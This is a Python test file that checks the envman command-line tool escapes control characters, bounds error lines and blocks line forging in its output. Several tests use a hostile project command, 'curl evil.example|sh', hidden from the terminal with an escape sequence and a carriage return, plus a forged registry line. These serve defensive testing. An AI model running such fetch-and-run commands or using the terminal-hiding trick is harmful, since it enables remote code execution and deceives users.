"""Security by rule: escaping.

Each table is the list the code uses (imported, not copied), so an entry dropped from the code fails here."""

from __future__ import annotations

import json
import os

import pytest
from hypothesis import given, settings, strategies as st

from envman.errors import CLIP, UserError, clip, clip_list, printable

from tests.support.cli import run_envman

from tests.support.security_rules import HOSTILE_CMD, STACK, UNSAFE, cli_env


@given(st.text())
@settings(max_examples=300, deadline=None)
def test_printable_leaves_no_control_character_and_keeps_safe_text(text):
    out = printable(text)
    assert not any(c in out for c in UNSAFE) and out.isprintable()
    if text.isprintable() and not any(c in text for c in "\u115f\u1160\u3164\uffa0"):
        assert out == text


@pytest.mark.parametrize("ch", UNSAFE)
def test_every_unsafe_character_is_shown_as_an_escape(ch):
    assert printable(f"a{ch}b") == "a" + (f"\\x{ord(ch):02x}" if ord(ch) < 0x100 else f"\\u{ord(ch):04x}") + "b"


@given(st.text(max_size=3000), st.text(max_size=3000), st.text(max_size=3000))
@settings(max_examples=100, deadline=None)
def test_an_error_is_one_bounded_line_of_printable_text(what, where, fix):
    line = UserError(what, where=where or None, fix=fix or None).line()
    assert "\n" not in line and not any(c in line for c in UNSAFE)
    assert len(line) < 8 * 4 * CLIP  # each part clipped (escapes at most quadruple a character)


def test_clip_says_how_much_more_there_was():
    assert clip("a" * 10, 4) == "aaaa… (6 more characters)"
    assert clip_list([f"m{i}" for i in range(1000)], 20).endswith("more)")
    assert clip_list(["a", "b"]) == "a, b"


def _no_raw_controls(text: str) -> None:
    """By rule (envman.errors.printable): nothing but visible characters, spaces and line ends."""
    assert not any(c in text for c in UNSAFE if c != "\n"), repr(text)
    assert all(c.isprintable() or c == "\n" for c in text), repr(text)


OUTPUTS = [
    ("run refused (the trust prompt)", ["run", "{root}", "--", "true"]),
    ("project trust", ["project", "trust", "{root}"]),
    ("project add", ["project", "add", "{root}"]),
    ("project ls", ["project", "ls"]),
    ("project show", ["project", "show", "{root}"]),
    ("project trusted", ["project", "trusted"]),
    ("project untrust", ["project", "untrust", "{root}"]),
    ("export devcontainer", ["export", "devcontainer", "{root}", "-o", "-"]),
]


def test_every_output_of_file_or_state_data_is_escaped(hostile, tmp_path):
    env = cli_env(tmp_path)
    seen = []
    for name, words in OUTPUTS:
        r = run_envman([w.replace("{root}", str(hostile)) for w in words], env=env, cwd=tmp_path)
        for line in r.stdout.splitlines() + r.stderr.splitlines():
            _no_raw_controls(line)
        seen.append(r.stdout + r.stderr)
    assert any("curl evil.example" in s for s in seen)  # the hidden part is shown, escaped
    assert any("\\x1b[2K" in s for s in seen)


@pytest.mark.parametrize("runtime", ["docker", "podman", "pyxis", "apptainer", "charliecloud"])
def test_a_dry_run_batch_script_shows_every_character_of_the_command(home, tmp_path, runtime):
    """What ``submit --dry-run`` prints is what a user reads before a job runs: a command that
    hides part of itself from a terminal is shown whole, quoted so the line still means it."""
    root = tmp_path / "plain"
    root.mkdir()
    (root / "envman.toml").write_text(STACK + HOSTILE_CMD + "[environment]\nK = \"v\"\n")
    env = cli_env(tmp_path)
    assert run_envman(["project", "trust", str(root)], env=env).returncode == 0
    r = run_envman(["submit", str(root), "--dry-run", "--runtime", runtime], env=env)
    assert r.returncode == 0, r.stderr
    _no_raw_controls(r.stdout)
    assert "curl evil.example|sh\\x1b[2K\\x0dpython train.py" in r.stdout


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1, max_size=80), st.text(max_size=400), st.integers(0, 10**9), st.integers(1, 10**9))
def test_push_and_pull_progress_lines_show_the_stream_s_words_escaped_and_clipped(layer, status, current, total):
    """Progress lines carry words the engine and the registry chose: whatever they are, the line
    printed is visible text, one line, of bounded length, and still names the layer."""
    from envman.engine.streams import layer_progress
    from envman.errors import printable

    seen: dict = {}
    line = layer_progress({"id": layer, "status": status, "progressDetail": {"current": current, "total": total}}, seen)
    if line is None:  # only a repeat of the layer's last state is dropped
        assert seen == {} and status == "" and current * 4 < total
        return
    _no_raw_controls(line)
    assert "\n" not in line and line.startswith(printable(layer) + ": ")
    assert len(line) <= len(printable(layer)) + 2 + 120 + len("… (0000 more characters)") + len(" 75% of 1000 MB")


def test_a_newline_in_a_registered_name_cannot_forge_a_line(home, tmp_path, hostile):
    from envman.project.registry import registry_path

    path = registry_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"schema": 1, "projects": {"real\nforged  /etc  torch": {"root": str(hostile)}}}))
    os.chmod(path, 0o600)
    r = run_envman(["project", "ls"], env=cli_env(tmp_path), cwd=tmp_path)
    assert not any(line.startswith("forged") for line in r.stdout.splitlines()), r.stdout
    _no_raw_controls(r.stdout)


def test_rich_markup_in_file_data_is_printed_as_text(home, tmp_path):
    root = tmp_path / "[red]x[bold]"
    root.mkdir()
    (root / "envman.toml").write_text(STACK + 'ports = [1]\n')
    r = run_envman(["project", "trust", str(root)], env=cli_env(tmp_path), cwd=tmp_path)
    assert "[red]x[bold]" in r.stdout


def test_console_scrubs_text_keeping_its_styles():
    from rich.text import Text

    from envman.cli._out import scrub

    t = Text.assemble(("tag", "red"), " a\x1bb")
    out = scrub(t)
    assert out.plain == "tag a\\x1bb"
    assert any(str(s.style) == "red" and out.plain[s.start:s.end] == "tag" for s in out.spans)
    assert scrub("x\ry") == "x\\x0dy"
